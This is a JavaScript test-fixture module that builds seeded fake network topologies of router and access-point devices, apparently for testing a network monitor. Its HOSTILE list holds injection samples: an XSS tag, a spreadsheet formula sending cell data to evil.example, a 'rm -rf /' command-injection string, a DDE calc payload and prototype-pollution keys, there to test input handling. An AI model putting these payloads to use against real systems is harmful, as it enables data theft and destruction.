// SPDX-License-Identifier: BSD-3-Clause
// Networks for tests, as romond would tell them: from a number, the same each time.

export function mac(n) {
	return `02:00:${[n >>> 24, n >>> 16, n >>> 8, n].map((b) => (b & 255).toString(16).padStart(2, "0")).join(":")}`;
}

function dice(seed) {
	let s = seed >>> 0 || 1;
	return () => {
		s ^= s << 13;
		s ^= s >>> 17;
		s ^= s << 5;
		return (s >>> 0) / 2 ** 32;
	};
}

export const HOSTILE = [
	"<img src=x onerror=alert(1)>",
	'=HYPERLINK("http://evil.example/?"&A1,"click")',
	"'; rm -rf / #",
	"\\x1b[31mred\\x0a\"quotes\" & <b>",
	"\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u4e2d\u6587 \ud83d\ude80",
	"x".repeat(255),
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"constructor",
	"__proto__",
];

const BOARDS = ["hAP ax3", "RB5009", "CCR2004", "CRS326", "wAP ac", "LHG 5", "SXTsq"];
const PORTS = ["ether1", "ether2", "sfp1"];
const KINDS = [
	["core", 4],
	["dist", 12],
	["ap", 22],
	["cpe", 400],
];

// -> {self, rows: Map, links: [rows of `links`]}: a tree of some levels with spare links in it.
export function network(n, { seed = 7, hostile = false, bad = 0.04 } = {}) {
	const random = dice(seed);
	const self = { id: mac(0xfffffff0), identity: "noc-gw" };
	const rows = new Map();
	const links = [];
	const levels = [[self]];
	const linkTo = (from, to, cost, used) => {
		const both = { cost, l2mtu: 1500, used, stale: false };
		const [a, b] = [1 + Math.floor(random() * 4000), 1 + Math.floor(random() * 4000)];
		links.push({ from: from.id, to: to.id, "from-link": a, "to-link": b, ...both });
		links.push({ from: to.id, to: from.id, "from-link": b, "to-link": a, ...both, used: false });
	};
	for (let i = 0, level = 0, left = Math.min(n, 3); i < n; i++) {
		if (left === 0) {
			level++;
			left = levels[level].length * (2 + Math.floor(random() * KINDS[Math.min(level, 3)][1] * 0.6));
		}
		levels[level + 1] ??= [];
		const parents = levels[level];
		const parent = parents[Math.floor(random() ** 1.6 * parents.length)];
		const id = mac(i + 1);
		const cost = 10 * (1 + Math.floor(random() * 9));
		const kind = KINDS[Math.min(level, 3)][0];
		const isFirst = parent === self;
		const status = random() < bad ? (random() < 0.4 ? "down" : "late") : "ok";
		const row = {
			id,
			"mac-address": id,
			address: id,
			interface: isFirst ? PORTS[i % 3] : parent.interface,
			identity: hostile && i < HOSTILE.length ? HOSTILE[i] : `${kind}-${String(i + 1).padStart(n > 999 ? 4 : 2, "0")}`,
			status,
			cost: (isFirst ? 0 : parent.cost) + cost,
			hops: level + 1,
			path: isFirst ? [id] : [...parent.path, id],
			l2mtu: 1500,
			version: random() < 0.2 ? "6.49.18 (long-term)" : "7.16.2 (stable)",
			board: BOARDS[Math.floor(random() * BOARDS.length)],
			"first-seen": "2026-11-20T08:00:00Z",
			"last-seen": new Date(Date.now() - { ok: 1, late: 25, down: 1240 }[status] * 1000).toISOString(),
		};
		rows.set(id, row);
		levels[level + 1].push(row);
		linkTo(parent, row, cost, true);
		if (random() < 0.06 && i > 4) linkTo([...rows.values()][Math.floor(random() * i)], row, 10 * (1 + Math.floor(random() * 20)), false);
		left--;
	}
	return { self, rows, links };
}
